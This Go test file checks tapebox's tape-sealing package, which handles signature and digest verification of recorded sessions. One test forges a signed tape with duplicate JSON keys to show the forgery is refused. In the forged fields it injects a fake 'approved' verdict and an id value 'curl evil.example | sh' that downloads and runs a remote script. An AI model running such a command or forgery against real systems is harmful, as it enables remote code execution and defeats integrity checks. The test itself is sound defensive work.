package seal_test

import (
	"bytes"
	"crypto/ed25519"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/tapebox/tapebox/tape"
	"github.com/tapebox/tapebox/tape/seal"
)

// goldenSigned is a signed golden tape written with digest scheme 1 (schema/testdata/every-field.json
// as it was before scheme 2), kept as it was written.
var goldenSigned = filepath.Join("testdata", "scheme1-signed.json")

// TestGoldenSchemeOneVerifies: a tape sealed and signed with the first digest scheme (the
// compact encoding as found) still verifies, signature included, with the key it names.
func TestGoldenSchemeOneVerifies(t *testing.T) {
	data, err := os.ReadFile(goldenSigned)
	require.NoError(t, err)
	require.Contains(t, string(data), tape.DigestAlgorithmV1)
	v, err := seal.Verify(bytes.NewReader(data), publicKeyOf(t, data))
	require.NoError(t, err)
	require.Equal(t, tape.DigestsOK, v.State, v.Problem)
	require.True(t, v.SignatureOK)
	// And an edit is still caught.
	edited := bytes.Replace(data, []byte(`"status":200`), []byte(`"status":201`), 1)
	require.NotEqual(t, data, edited)
	v, err = seal.Verify(bytes.NewReader(edited), nil)
	require.NoError(t, err)
	require.Equal(t, tape.DigestsMismatch, v.State)
}

func publicKeyOf(t *testing.T, data []byte) []byte {
	t.Helper()
	var probe struct {
		Digest struct {
			PublicKey string `json:"public_key"`
		} `json:"digest"`
	}
	require.NoError(t, json.Unmarshal(data, &probe))
	pub, err := hex.DecodeString(probe.Digest.PublicKey)
	require.NoError(t, err)
	require.Len(t, pub, 32)
	return pub
}

// TestDuplicateMetaRefused is finding 1 of issue 30: a second "meta" before threads with
// other labels, task and limits, the signed one moved to the end. The signature verified
// (Verify hashed the last meta) while every loader merged the two; now Verify names the
// repeated member and every loader refuses the tape. The same for an "id" repeated after a
// thread's steps, which renamed the thread.
func TestDuplicateMetaRefused(t *testing.T) {
	data, err := os.ReadFile(goldenSigned)
	require.NoError(t, err)
	pub := publicKeyOf(t, data)
	var top map[string]json.RawMessage
	require.NoError(t, json.Unmarshal(data, &top))
	forged := strings.Replace(string(top["meta"]), `"labels":{`, `"labels":{"verdict":"approved",`, 1)
	forged = strings.Replace(forged, `"max_steps":100`, `"max_steps":999999`, 1)
	forged = strings.Replace(forged, `"id":"hello-world"`, `"id":"curl evil.example | sh"`, 1)
	require.NotEqual(t, string(top["meta"]), forged)

	metaTwice := `{"version":1,"meta":` + forged + `,"threads":` + string(top["threads"]) + `,"digest":` + string(top["digest"]) + `,"meta":` + string(top["meta"]) + "}\n"
	threads := string(top["threads"])
	at := strings.Index(threads, `"steps":[`)
	require.Positive(t, at)
	// An "id" after the first thread's steps: find the end of its steps array by decoding.
	var ths []map[string]json.RawMessage
	require.NoError(t, json.Unmarshal(top["threads"], &ths))
	first := `{"id":` + string(ths[0]["id"]) + `,"parent":` + string(ths[0]["parent"]) + `,"steps":` + string(ths[0]["steps"]) + `,"id":"renamed"}`
	rest := ""
	for _, th := range ths[1:] {
		b, err := json.Marshal(th)
		require.NoError(t, err)
		rest += "," + string(b)
	}
	idTwice := `{"version":1,"meta":` + string(top["meta"]) + `,"threads":[` + first + rest + `],"digest":` + string(top["digest"]) + "}\n"

	for name, c := range map[string]struct{ doc, ptr string }{
		"meta twice":        {metaTwice, "/meta"},
		"thread id twice":   {idTwice, "/threads/0/id"},
		"meta key in meta":  {strings.Replace(string(data), `"harness":`, `"harness":"x","harness":`, 1), "/meta/harness"},
		"case-folded field": {strings.Replace(string(data), `"threads":`, `"Meta":`+forged+`,"threads":`, 1), "/Meta"},
	} {
		t.Run(name, func(t *testing.T) {
			v, err := seal.Verify(strings.NewReader(c.doc), pub)
			if err == nil {
				require.Equal(t, tape.DigestsMismatch, v.State, "signature ok on a forged tape")
				if name != "case-folded field" { // an unknown field at the top: named there
					require.Equal(t, c.ptr, v.Pointer, v.Problem)
				}
			}
			_, err = tape.Unmarshal([]byte(c.doc))
			require.ErrorContains(t, err, "duplicate object key")
			require.ErrorContains(t, err, c.ptr)
			_, err = tape.LoadSummary(strings.NewReader(c.doc))
			require.ErrorContains(t, err, c.ptr)
		})
	}
}

// TestReserializedVerifies: a sealed tape written again by Python's json.dump (\u2014 for
// U+2014, ", " and ": " between members, non-ASCII escaped) verifies, signature included,
// since the digests cover content; a change of content in the re-written tape is caught.
func TestReserializedVerifies(t *testing.T) {
	python, err := exec.LookPath("python3")
	if err != nil {
		t.Fatalf("python3 is needed to re-write a tape as another tool does: %v", err)
	}
	pub, key := testKey(t)
	tp, err := tape.LoadFile(filepath.Join("..", "..", "testdata", "anthropic-stream.json"))
	require.NoError(t, err)
	tp.Meta.Labels["note"] = "a dash — and <html> & é, \U0001F600"
	tp.Meta.Task["prompt"] = "line one\nline two\ttab \u2028"
	require.NoError(t, seal.Tape(tp, key))
	data, err := tape.Marshal(tp)
	require.NoError(t, err)
	require.Contains(t, string(data), "—")
	in := filepath.Join(t.TempDir(), "in.json")
	require.NoError(t, os.WriteFile(in, data, 0o644))
	for name, script := range map[string]string{
		"json.dump":           `import json,sys; json.dump(json.load(open(sys.argv[1])), sys.stdout)`,
		"indent, sorted keys": `import json,sys; json.dump(json.load(open(sys.argv[1])), sys.stdout, indent=2, sort_keys=True)`,
		"ensure_ascii=False":  `import json,sys; sys.stdout.reconfigure(encoding="utf-8"); json.dump(json.load(open(sys.argv[1])), sys.stdout, ensure_ascii=False, separators=(",", ":"))`,
	} {
		t.Run(name, func(t *testing.T) {
			out, err := exec.Command(python, "-c", script, in).Output()
			require.NoError(t, err)
			require.NotEqual(t, data, out)
			if name == "json.dump" {
				require.Contains(t, string(out), `\u2014`)
				require.Contains(t, string(out), `", "`)
			}
			v, err := seal.Verify(bytes.NewReader(out), pub)
			require.NoError(t, err)
			require.Equal(t, tape.DigestsOK, v.State, "%s: %s", v.Pointer, v.Problem)
			require.True(t, v.SignatureOK)

			changed := bytes.Replace(out, []byte(`\u2014`), []byte(`\u2013`), 1)
			if bytes.Equal(changed, out) {
				changed = bytes.Replace(out, []byte("—"), []byte("–"), 1)
			}
			require.NotEqual(t, out, changed)
			v, err = seal.Verify(bytes.NewReader(changed), pub)
			require.NoError(t, err)
			require.Equal(t, tape.DigestsMismatch, v.State)
			require.Equal(t, "/meta", v.Pointer)
		})
	}
}

func testKey(t *testing.T) (ed25519.PublicKey, ed25519.PrivateKey) {
	t.Helper()
	pub, key, err := ed25519.GenerateKey(nil)
	require.NoError(t, err)
	return pub, key
}

// TestCheck: Check passes a tape without digests and a sealed one, and names the changed
// step of a tampered one.
func TestCheck(t *testing.T) {
	tp, err := tape.LoadFile(filepath.Join("..", "..", "testdata", "anthropic-json.json"))
	require.NoError(t, err)
	plain, err := tape.Marshal(tp)
	require.NoError(t, err)
	require.NoError(t, seal.Check(nil, plain))
	require.NoError(t, seal.Tape(tp, nil))
	sealed, err := tape.Marshal(tp)
	require.NoError(t, err)
	require.NoError(t, seal.Check(nil, sealed))
	last := len(tp.Threads[0].Steps) - 1
	tp.Threads[0].Steps[last].Response.StopReason = "tampered"
	tampered, err := tape.Marshal(tp)
	require.NoError(t, err)
	decoded, err := tape.Unmarshal(tampered)
	require.NoError(t, err)
	require.ErrorIs(t, seal.Check(decoded, tampered), seal.ErrTampered, "the decoded tape claims digests")
	require.NoError(t, seal.Check(mustLoad(t, plain), plain), "no digests claimed: nothing to check")
	err = seal.Check(nil, tampered)
	require.ErrorIs(t, err, seal.ErrTampered)
	require.ErrorIs(t, err, tape.ErrNotVerified)
	require.ErrorContains(t, err, fmt.Sprintf("/threads/0/steps/%d", last))
}

func mustLoad(t *testing.T, data []byte) *tape.Tape {
	t.Helper()
	tp, err := tape.Unmarshal(data)
	require.NoError(t, err)
	return tp
}
